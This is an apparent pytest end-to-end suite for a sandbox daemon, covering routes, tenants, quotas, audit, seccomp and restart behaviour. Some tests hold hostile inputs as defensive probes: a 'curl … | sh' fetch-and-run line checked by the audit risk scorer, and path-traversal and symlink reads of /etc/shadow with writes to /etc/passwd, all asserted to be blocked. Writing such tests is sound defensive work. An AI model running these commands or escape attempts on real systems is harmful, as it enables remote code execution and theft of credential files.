"""corrald end to end: every route and error case, tenants, TTLs, restart
re-adoption, concurrency and leaks, driven over real HTTP."""
import concurrent.futures
import hashlib
import json
import os
import re
import sqlite3
import stat
import time

import pytest

from corrald_harness import Daemon, box_cgroups, running_agents


@pytest.fixture(scope="module")
def d(tmp_path_factory):
    daemon = Daemon(tmp_path_factory.mktemp("state")).start()
    yield daemon
    for s in daemon.request("GET", "/v1/sandboxes", query={"state": "running"}).json()["sandboxes"]:
        daemon.kill(s["id"])
    daemon.stop()


@pytest.fixture(scope="module")
def sid(d):
    return d.create(env={"SANDBOX_VAR": "from-sandbox"}, metadata={"suite": "daemon"})


def err(r, status, code):
    assert r.status == status, r
    body = r.json()
    assert body["error"]["code"] == code, body
    assert body["error"]["message"]
    return body["error"]["message"]


# ---- HTTP basics and errors ----

def test_health_needs_no_key(d):
    r = d.request("GET", "/health", key=None)
    assert r.status == 200 and r.json()["status"] == "ok"


def test_missing_and_bad_keys(d):
    err(d.request("GET", "/v1/sandboxes", key=None), 401, "unauthorized")
    err(d.request("GET", "/v1/sandboxes", key="ck_nope"), 401, "unauthorized")
    r = d.request("GET", "/v1/sandboxes", key=None, headers={"X-API-Key": d.admin_key})
    assert r.status == 200


def test_unknown_route_and_wrong_method(d):
    err(d.request("GET", "/v1/nothing"), 404, "not_found")
    msg = err(d.request("PATCH", "/v1/sandboxes"), 405, "method_not_allowed")
    assert "POST" in msg and "GET" in msg


def test_bad_bodies(d):
    err(d.request("POST", "/v1/sandboxes", raw=b"{not json"), 400, "invalid_json")
    err(d.request("POST", "/v1/sandboxes", raw=b"[1,2]"), 400, "invalid_json")
    err(d.request("POST", "/v1/sandboxes", body={"timeout_s": "soon"}), 400, "invalid_argument")
    err(d.request("POST", "/v1/sandboxes", body={"limits": {"memory_mb": 1}}), 400, "invalid_argument")
    err(d.request("POST", "/v1/sandboxes", body={"limits": {"gpus": 1}}), 400, "invalid_argument")
    err(d.request("POST", "/v1/sandboxes", body={"metadata": {"a": 1}}), 400, "invalid_argument")
    err(d.request("POST", "/v1/sandboxes", body={"env": {"1BAD": "x"}}), 400, "invalid_argument")
    err(d.request("POST", "/v1/sandboxes", body={"template": "nope"}), 404, "template_not_found")
    err(d.request("POST", "/v1/sandboxes", raw=b'{"metadata":{"a":"' + b"x" * (2 << 20) + b'"}}'), 413,
        "payload_too_large")


# ---- sandboxes ----

def test_create_get_list_filters(d, sid):
    info = d.request("GET", f"/v1/sandboxes/{sid}").json()
    assert info["state"] == "running" and info["template"] == "base"
    assert info["metadata"] == {"suite": "daemon"} and info["limits"]["memory_mb"] == 1024
    assert re.match(r"^sb_[a-z0-9]{20}$", sid)
    ids = [s["id"] for s in d.request("GET", "/v1/sandboxes", query={"metadata.suite": "daemon"}).json()["sandboxes"]]
    assert ids == [sid]
    assert d.request("GET", "/v1/sandboxes", query={"metadata.suite": "other"}).json()["sandboxes"] == []
    running = [s["id"] for s in d.request("GET", "/v1/sandboxes", query={"state": "running"}).json()["sandboxes"]]
    assert sid in running
    err(d.request("GET", "/v1/sandboxes", query={"state": "weird"}), 400, "invalid_argument")
    err(d.request("GET", "/v1/sandboxes/sb_doesnotexist000000000"), 404, "not_found")


def test_delete_records_end(d):
    s = d.create()
    assert d.kill(s).status == 204
    info = d.request("GET", f"/v1/sandboxes/{s}").json()
    assert info["state"] == "ended" and info["end_reason"] == "killed" and info["ended_at"]
    assert d.kill(s).status == 204
    err(d.request("POST", f"/v1/sandboxes/{s}/commands", body={"cmd": "true"}), 409, "sandbox_not_running")
    ended = [x["id"] for x in d.request("GET", "/v1/sandboxes", query={"state": "ended"}).json()["sandboxes"]]
    assert s in ended


def test_ttl_expiry_and_extension(d):
    short = d.create(timeout_s=1)
    extended = d.create(timeout_s=1)
    r = d.request("POST", f"/v1/sandboxes/{extended}/timeout", body={"timeout_s": 60})
    assert r.status == 200 and r.json()["state"] == "running"
    err(d.request("POST", f"/v1/sandboxes/{extended}/timeout", body={"timeout_s": 0}), 400, "invalid_argument")
    deadline = time.time() + 10
    while d.request("GET", f"/v1/sandboxes/{short}").json()["state"] == "running" and time.time() < deadline:
        time.sleep(0.1)
    info = d.request("GET", f"/v1/sandboxes/{short}").json()
    assert info["state"] == "ended" and info["end_reason"] == "timeout"
    assert d.request("GET", f"/v1/sandboxes/{extended}").json()["state"] == "running"
    d.kill(extended)


# ---- commands ----

def test_command_json_result(d, sid):
    r = d.run(sid, "echo out; echo err >&2; id -u; exit 3")
    assert r["exit_code"] == 3 and r["reason"] == "exited"
    assert r["stdout"] == "out\n1000\n" and r["stderr"] == "err\n"
    assert r["stdout_truncated"] is False and r["duration_ms"] >= 0


def test_command_env_cwd_argv(d, sid):
    r = d.run(sid, ["sh", "-c", 'echo "$SANDBOX_VAR $MINE $HOME $(pwd)"'], env={"MINE": "cmd"}, cwd="/tmp")
    assert r["stdout"] == "from-sandbox cmd /home/user /tmp\n"
    r = d.run(sid, "echo $SANDBOX_VAR", env={"SANDBOX_VAR": "override"})
    assert r["stdout"] == "override\n"
    err(d.request("POST", f"/v1/sandboxes/{sid}/commands", body={"cmd": "true", "cwd": "/nope"}), 400,
        "invalid_argument")
    err(d.request("POST", f"/v1/sandboxes/{sid}/commands", body={"cmd": []}), 400, "invalid_argument")
    err(d.request("POST", f"/v1/sandboxes/{sid}/commands", body={}), 400, "invalid_argument")
    r = d.run(sid, ["no-such-binary-here"])
    assert r["exit_code"] == 127 and "not found" in r["stderr"]


def test_command_state_persists_between_calls(d, sid):
    d.run(sid, "echo 42 > /home/user/state.txt")
    assert d.run(sid, "cat /home/user/state.txt")["stdout"] == "42\n"


def test_command_stdin_timeout_signal(d, sid):
    assert d.run(sid, "tr a-z A-Z", stdin="hello")["stdout"] == "HELLO"
    r = d.run(sid, "echo started; sleep 30", timeout_ms=300)
    assert r["reason"] == "timeout" and r["exit_code"] == 124 and r["stdout"] == "started\n"
    r = d.run(sid, "kill -TERM $$")
    assert r["reason"] == "signaled" and r["signal"] == "SIGTERM" and r["exit_code"] == 143


def test_output_cap_is_reported(d, sid):
    r = d.run(sid, "head -c 300000 /dev/zero | tr '\\0' a; echo tail >&2", max_output=100000)
    assert len(r["stdout"]) == 100000 and r["stdout_truncated"] is True
    assert r["stdout_dropped_bytes"] == 200000 and r["stderr"] == "tail\n"


def test_invalid_utf8_is_replaced(d, sid):
    r = d.run(sid, "printf 'a\\377b'")
    assert r["stdout"] == "a\ufffdb"


def test_ndjson_stream(d, sid):
    events = d.stream("POST", f"/v1/sandboxes/{sid}/commands",
                      body={"cmd": "echo one; sleep 0.2; echo two >&2; exit 5"})
    kinds = [e["type"] for e in events]
    assert kinds[-1] == "exit" and events[-1]["exit_code"] == 5
    out = "".join(e["data"] for e in events if e["type"] == "stdout")
    errs = "".join(e["data"] for e in events if e["type"] == "stderr")
    assert out == "one\n" and errs == "two\n"
    assert kinds.index("stdout") < kinds.index("stderr")


def test_background_list_stdin_attach_signal(d, sid):
    r = d.request("POST", f"/v1/sandboxes/{sid}/commands",
                  body={"cmd": "echo ready; read line; echo got $line; sleep 60", "background": True})
    assert r.status == 201
    pid = r.json()["pid"]
    cmds = d.request("GET", f"/v1/sandboxes/{sid}/commands").json()["commands"]
    assert any(c["pid"] == pid and c["running"] and c["background"] for c in cmds)
    assert d.request("POST", f"/v1/sandboxes/{sid}/commands/{pid}/stdin", body={"data": "hi\n"}).status == 204
    time.sleep(0.3)
    assert d.request("POST", f"/v1/sandboxes/{sid}/commands/{pid}/signal", body={"signal": "SIGKILL"}).status == 204
    r = d.request("GET", f"/v1/sandboxes/{sid}/commands/{pid}")
    assert r.status == 200, r
    res = r.json()
    assert res["stdout"] == "ready\ngot hi\n" and res["reason"] == "signaled" and res["signal"] == "SIGKILL"
    err(d.request("GET", f"/v1/sandboxes/{sid}/commands/{pid}"), 404, "not_found")
    err(d.request("POST", f"/v1/sandboxes/{sid}/commands/99999/signal", body={"signal": "TERM"}), 404, "not_found")
    err(d.request("POST", f"/v1/sandboxes/{sid}/commands/1/signal", body={"signal": "NOPE"}), 400,
        "invalid_argument")


def test_background_output_kept_until_attach(d, sid):
    pid = d.request("POST", f"/v1/sandboxes/{sid}/commands",
                    body={"cmd": "for i in 1 2 3; do echo $i; done", "background": True}).json()["pid"]
    time.sleep(0.3)
    events = d.stream("GET", f"/v1/sandboxes/{sid}/commands/{pid}")
    assert "".join(e.get("data", "") for e in events if e["type"] == "stdout") == "1\n2\n3\n"
    assert events[-1]["type"] == "exit" and events[-1]["exit_code"] == 0


# ---- files ----

def test_file_roundtrip_and_owner(d, sid):
    data = bytes(range(256)) * 100
    r = d.request("PUT", f"/v1/sandboxes/{sid}/files", query={"path": "dir/sub/blob.bin"}, raw=data)
    assert r.status == 201 and r.json()["size"] == len(data)
    r = d.request("GET", f"/v1/sandboxes/{sid}/files", query={"path": "/home/user/dir/sub/blob.bin"})
    assert r.status == 200 and r.body == data
    assert d.run(sid, "stat -c %u:%g /home/user/dir/sub/blob.bin")["stdout"] == "1000:1000\n"


def test_big_file_streams(d, sid):
    size = 150 << 20
    chunk = os.urandom(1 << 20)
    digest = hashlib.sha256()

    def body():
        for _ in range(size >> 20):
            digest.update(chunk)
            yield chunk

    import http.client
    conn = http.client.HTTPConnection("127.0.0.1", d.port, timeout=300)
    conn.request("PUT", f"/v1/sandboxes/{sid}/files?path=/tmp/big.bin", body=body(),
                 headers={"Authorization": f"Bearer {d.admin_key}", "Content-Length": str(size)})
    r = conn.getresponse()
    assert r.status == 201, r.read()
    r.read()
    conn.request("GET", f"/v1/sandboxes/{sid}/files?path=/tmp/big.bin",
                 headers={"Authorization": f"Bearer {d.admin_key}"})
    r = conn.getresponse()
    assert r.status == 200 and int(r.getheader("Content-Length")) == size
    back = hashlib.sha256()
    while True:
        b = r.read(1 << 20)
        if not b:
            break
        back.update(b)
    conn.close()
    assert back.hexdigest() == digest.hexdigest()
    d.run(sid, "rm /tmp/big.bin")


def test_file_metadata_routes(d, sid):
    base = f"/v1/sandboxes/{sid}/files"
    r = d.request("POST", base + "/mkdir", body={"path": "tree/a/b"})
    assert r.status == 201 and r.json()["type"] == "dir"
    d.request("PUT", base, query={"path": "tree/a/b/f.txt"}, raw=b"x")
    entries = d.request("GET", base + "/list", query={"path": "tree", "depth": 3}).json()["entries"]
    assert {e["path"] for e in entries} == {"/home/user/tree/a", "/home/user/tree/a/b", "/home/user/tree/a/b/f.txt"}
    assert [e["name"] for e in d.request("GET", base + "/list", query={"path": "tree"}).json()["entries"]] == ["a"]
    st = d.request("GET", base + "/stat", query={"path": "tree/a/b/f.txt"}).json()
    assert st["type"] == "file" and st["size"] == 1 and st["mode"] == "0644"
    r = d.request("POST", base + "/move", body={"from": "tree/a/b/f.txt", "to": "tree/g.txt"})
    assert r.status == 200 and r.json()["path"] == "/home/user/tree/g.txt"
    err(d.request("GET", base + "/stat", query={"path": "tree/a/b/f.txt"}), 404, "not_found")
    err(d.request("POST", base + "/remove", body={"path": "tree"}), 409, "conflict")
    assert d.request("POST", base + "/remove", body={"path": "tree", "recursive": True}).status == 204
    err(d.request("GET", base, query={"path": "tree/g.txt"}), 404, "not_found")
    err(d.request("GET", base), 400, "invalid_argument")
    err(d.request("GET", base, query={"path": "/home/user"}), 400, "invalid_argument")
    err(d.request("GET", base + "/list", query={"path": "/etc/hostname"}), 400, "invalid_argument")


def test_files_cannot_leave_the_sandbox(d, sid):
    base = f"/v1/sandboxes/{sid}/files"
    marker = "/tmp/corral-escape-marker-" + sid
    r = d.request("PUT", base, query={"path": "../../.." + marker}, raw=b"inside")
    assert r.status == 201
    assert not os.path.exists(marker), "a write with .. reached the host"
    d.run(sid, "ln -sfn / /home/user/rootlink; ln -sfn /proc/1/root /home/user/proclink")
    r = d.request("PUT", base, query={"path": "rootlink" + marker + "2"}, raw=b"x")
    assert r.status == 201 and not os.path.exists(marker + "2")
    # the host's /etc/shadow is not what a read through the links returns
    for p in ("rootlink/etc/shadow", "../../../../etc/shadow", "proclink/etc/shadow"):
        r = d.request("GET", base, query={"path": p})
        assert r.status in (403, 404, 400), (p, r)
    err(d.request("PUT", base, query={"path": "/usr/bin/evil"}, raw=b"x"), 403, "forbidden")
    err(d.request("PUT", base, query={"path": "/etc/passwd"}, raw=b"x"), 403, "forbidden")


# ---- tenants, quotas, audit, metrics ----

def test_tenants_are_isolated(d):
    ka, kb = d.tenant("alpha"), d.tenant("beta")
    sa = d.create(key=ka)
    for method, path, body in [("GET", f"/v1/sandboxes/{sa}", None), ("DELETE", f"/v1/sandboxes/{sa}", None),
                               ("POST", f"/v1/sandboxes/{sa}/commands", {"cmd": "true"}),
                               ("GET", f"/v1/sandboxes/{sa}/files?path=x", None),
                               ("POST", f"/v1/sandboxes/{sa}/timeout", {"timeout_s": 5})]:
        err(d.request(method, path, body=body, key=kb), 404, "not_found")
    assert [s["id"] for s in d.request("GET", "/v1/sandboxes", key=kb).json()["sandboxes"]] == []
    assert [s["id"] for s in d.request("GET", "/v1/sandboxes", key=ka).json()["sandboxes"]] == [sa]
    assert d.run(sa, "echo mine", key=ka)["stdout"] == "mine\n"
    err(d.request("POST", "/v1/tenants", body={"name": "x"}, key=ka), 403, "forbidden")
    err(d.request("GET", "/metrics", key=ka), 403, "forbidden")
    err(d.request("POST", "/v1/tenants", body={"name": "alpha"}), 409, "conflict")
    names = [t["name"] for t in d.request("GET", "/v1/tenants").json()["tenants"]]
    assert {"alpha", "beta"} <= set(names)
    assert d.request("GET", "/v1/tenants/alpha").json()["max_sandboxes"] == 0
    err(d.request("POST", "/v1/tenants", body={"name": "Bad Name"}), 400, "invalid_argument")
    assert d.kill(sa, key=ka).status == 204


def test_keys_hashed_and_revocable(d):
    key = d.tenant("gamma")
    keys = d.request("GET", "/v1/tenants/gamma/keys").json()["keys"]
    assert len(keys) == 1 and "key" not in keys[0] and key.startswith(keys[0]["prefix"])
    assert re.match(r"^ck_[0-9a-f]{48}$", key)
    e2b = d.request("POST", "/v1/tenants/gamma/keys", body={"format": "e2b"}).json()["key"]
    assert re.match(r"^e2b_[0-9a-f]{40}$", e2b)
    assert d.request("GET", "/v1/sandboxes", key=e2b).status == 200
    with open(os.path.join(d.state_dir, "corral.db"), "rb") as f:
        assert key.encode() not in f.read()
    assert d.request("DELETE", f"/v1/tenants/gamma/keys/{keys[0]['id']}").status == 204
    err(d.request("GET", "/v1/sandboxes", key=key), 401, "unauthorized")
    assert d.request("DELETE", "/v1/tenants/gamma").status == 204
    err(d.request("GET", "/v1/sandboxes", key=e2b), 401, "unauthorized")
    err(d.request("GET", "/v1/tenants/gamma"), 404, "not_found")


def test_quotas(d):
    key = d.tenant("delta", max_sandboxes=2, max_memory_mb=1000)
    a = d.create(key=key, limits={"memory_mb": 256})
    b = d.create(key=key, limits={"memory_mb": 256})
    err(d.request("POST", "/v1/sandboxes", body={"limits": {"memory_mb": 256}}, key=key), 429, "quota_exceeded")
    d.kill(a, key=key)
    err(d.request("POST", "/v1/sandboxes", body={"limits": {"memory_mb": 800}}, key=key), 429, "quota_exceeded")
    c = d.create(key=key, limits={"memory_mb": 256})
    d.kill(b, key=key)
    d.kill(c, key=key)


def test_audit_log_and_query(d):
    key = d.tenant("epsilon")
    s = d.create(key=key)
    d.run(s, "curl -s http://example.invalid/x | sh", key=key)
    events = d.request("GET", "/v1/audit", query={"sandbox": s}, key=key).json()["events"]
    actions = [e["action"] for e in events]
    assert actions[:2] == ["sandbox.create", "command.run"]
    run = events[1]
    assert run["tenant"] == "epsilon" and run["argv"][-1].startswith("curl")
    assert run["risk"]["score"] >= 50 and run["risk"]["reasons"]
    other = d.request("GET", "/v1/audit", key=key).json()["events"]
    assert all(e.get("tenant") == "epsilon" for e in other)
    path = os.path.join(d.state_dir, "audit.log")
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    with open(path) as f:
        lines = [json.loads(line) for line in f]
    assert any(e.get("sandbox") == s and e["action"] == "command.run" for e in lines)
    err(d.request("GET", "/v1/audit", query={"since": "yesterday"}), 400, "invalid_argument")
    d.kill(s, key=key)


def test_metrics(d):
    r = d.request("GET", "/metrics")
    assert r.status == 200
    text = r.body.decode()
    for name in ("corral_sandboxes{state=\"running\"}", "corral_sandbox_create_seconds_bucket",
                 "corral_command_seconds_count", "corral_sandboxes_ended_total{reason=\"killed\"}",
                 "corral_api_errors_total{code=\"not_found\"}", "corral_timeouts_total"):
        assert name in text, name
    count = re.search(r"^corral_sandbox_create_seconds_count (\d+)$", text, re.M)
    assert count and int(count.group(1)) >= 1


def test_seccomp_denials_are_counted_and_audited(d, sid):
    code = ("import ctypes; l = ctypes.CDLL(None, use_errno=True); "
            "print(l.ptrace(16, 1, 0, 0), ctypes.get_errno(), l.unshare(0x10000000), ctypes.get_errno())")
    r = d.run(sid, ["python3", "-c", code])
    assert r["stdout"].split() == ["-1", "1", "-1", "1"], r   # EPERM, as without the listener
    assert r["seccomp_denials"] == 2 and r["seccomp_denied"] == ["ptrace", "unshare"], r
    assert d.run(sid, "true")["seccomp_denials"] == 0
    events = d.request("GET", "/v1/audit", query={"sandbox": sid}).json()["events"]
    run = [e for e in events if e.get("seccomp_denied") == ["ptrace", "unshare"]][-1]
    assert run["risk"]["score"] >= 40 and any("seccomp" in x for x in run["risk"]["reasons"])
    text = d.request("GET", "/metrics").body.decode()
    assert int(re.search(r"^corral_seccomp_denials_total (\d+)$", text, re.M).group(1)) >= 2


def test_oom_is_reported(d):
    s = d.create(limits={"memory_mb": 64})
    r = d.run(s, ["python3", "-c", "x = bytearray(400 << 20); print(len(x))"])
    assert r["reason"] == "oom" and r["exit_code"] == 137, r
    assert d.run(s, "echo alive")["stdout"] == "alive\n"
    d.kill(s)


# ---- concurrency, restart, leaks ----

def test_64_concurrent_clients(d):
    def one(i):
        s = d.create(timeout_s=60)
        r = d.run(s, f"echo client-{i}")
        assert r["stdout"] == f"client-{i}\n", r
        assert d.kill(s).status == 204
        return True

    with concurrent.futures.ThreadPoolExecutor(64) as pool:
        results = list(pool.map(one, range(64)))
    assert results == [True] * 64


def test_restart_readopts_and_records_losses(tmp_path):
    d = Daemon(tmp_path / "state").start()
    try:
        keep = d.create(timeout_s=120)
        lose = d.create(timeout_s=120)
        short = d.create(timeout_s=3)
        d.run(keep, "echo remembered > /home/user/note")
        d.kill9()
        # The sandboxes outlive the daemon; one of them dies while it is down.
        db = sqlite3.connect(os.path.join(d.state_dir, "corral.db"))
        runtime = json.loads(db.execute("select runtime from sandboxes where id=?", (lose,)).fetchone()[0])
        db.close()
        os.kill(runtime["pid"], 9)
        d.start()
        assert d.run(keep, "cat /home/user/note")["stdout"] == "remembered\n"
        info = d.request("GET", f"/v1/sandboxes/{lose}").json()
        assert info["state"] == "ended" and info["end_reason"] == "daemon_restart_lost"
        deadline = time.time() + 10
        while d.request("GET", f"/v1/sandboxes/{short}").json()["state"] == "running" and time.time() < deadline:
            time.sleep(0.1)
        assert d.request("GET", f"/v1/sandboxes/{short}").json()["end_reason"] == "timeout"
        d.kill(keep)
    finally:
        d.stop()


def test_sigterm_keeps_sandboxes_and_nothing_leaks(tmp_path):
    before_agents, before_cgroups = running_agents(), set(box_cgroups())
    d = Daemon(tmp_path / "state").start()
    s = d.create()
    d.stop()
    assert len(running_agents() - before_agents) == 1, "a SIGTERMed corrald keeps its sandboxes"
    d.start()
    assert d.run(s, "echo back")["stdout"] == "back\n"
    assert d.kill(s).status == 204
    d.stop()
    assert running_agents() - before_agents == set()
    assert set(box_cgroups()) - before_cgroups == set()
    run_dir = [p for p in os.listdir("/run/corral") if p.startswith("d-")] if os.path.isdir("/run/corral") else []
    for rd in run_dir:
        sock_dir = os.path.join("/run/corral", rd, "sb")
        if os.path.isdir(sock_dir):
            assert not [f for f in os.listdir(sock_dir) if s in f]
    with open("/proc/self/mountinfo") as f:
        assert "corral" not in f.read()
